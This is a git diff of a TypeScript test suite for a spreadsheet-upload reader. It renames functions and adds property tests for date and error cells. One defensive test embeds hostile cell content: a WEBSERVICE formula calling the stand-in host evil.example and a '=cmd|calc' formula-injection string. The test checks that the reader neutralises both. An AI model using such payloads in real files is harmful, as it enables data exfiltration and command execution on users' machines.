@@ -5,17 +5,18 @@ import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { Refusal } from '#platform/errors';
 import { preflight, zipLimits } from './preflight.ts';
-import { readFile } from './read-file.ts';
+import { readSheets, readSpreadsheet } from './read-file.ts';
 import { rowsOfFile } from './rows.ts';
 import { adult, sheetOf } from './sheet.testing.ts';
 import { makeZip, workbook, type MadeEntry } from './zip.testing.ts';
 
 const legacyFile = readFileSync(join(import.meta.dirname, 'fixtures/thirty-candidates.xls'));
 const sheet = 'xl/worksheets/sheet1.xml';
+const today = '2026-11-20';
 
 async function verdict(file: Buffer): Promise<string> {
   try {
-    rowsOfFile(await readFile(file), 500);
+    rowsOfFile(await readSheets(file), { limit: 500, today });
     return 'read';
   } catch (error) {
     if (error instanceof Refusal) return error.code;
@@ -125,7 +126,7 @@ describe('a hostile file', () => {
   it('has its formulas read as the values it remembers, and text that looks like one as text [T20 R-38]', async () => {
     const cells =
       '<c r="A1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>kept</v></c><c r="B1" t="inlineStr"><is><t>=cmd|calc</t></is></c>';
-    expect(await readFile(makeZip(workbook(`<row r="1">${cells}</row>`)))).toEqual([['kept', '=cmd|calc']]);
+    expect(await readSpreadsheet(makeZip(workbook(`<row r="1">${cells}</row>`)))).toEqual([['kept', '=cmd|calc']]);
   });
 
   it('leaves no file behind [T31]', async () => {
@@ -141,7 +142,9 @@ describe('a hostile file', () => {
 
 describe('a sheet', () => {
   it('with any cells is checked without a fault [R-38]', () => {
-    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.double(), fc.constant(null));
+    const date = fc.record({ date: fc.option(fc.constant('2014-05-06')), serial: fc.option(fc.double()) });
+    const error = fc.record({ error: fc.string() });
+    const cell = fc.oneof(fc.string({ unit: 'binary' }), fc.double(), fc.constant(null), date, error);
     fc.assert(
       fc.property(fc.array(fc.array(cell, { maxLength: 14 }), { maxLength: 6 }), (rows) => {
         const headings = [
@@ -154,7 +157,8 @@ describe('a sheet', () => {
           'Mobile',
         ];
         try {
-          expect(rowsOfFile([headings, ...rows], 500).length).toBeLessThanOrEqual(rows.length);
+          const file = [{ name: 's', isHidden: false, rows: [headings, ...rows], hiddenRows: [] }];
+          expect(rowsOfFile(file, { limit: 500, today }).rows.length).toBeLessThanOrEqual(rows.length);
         } catch (error) {
           expect(error).toBeInstanceOf(Refusal);
         }
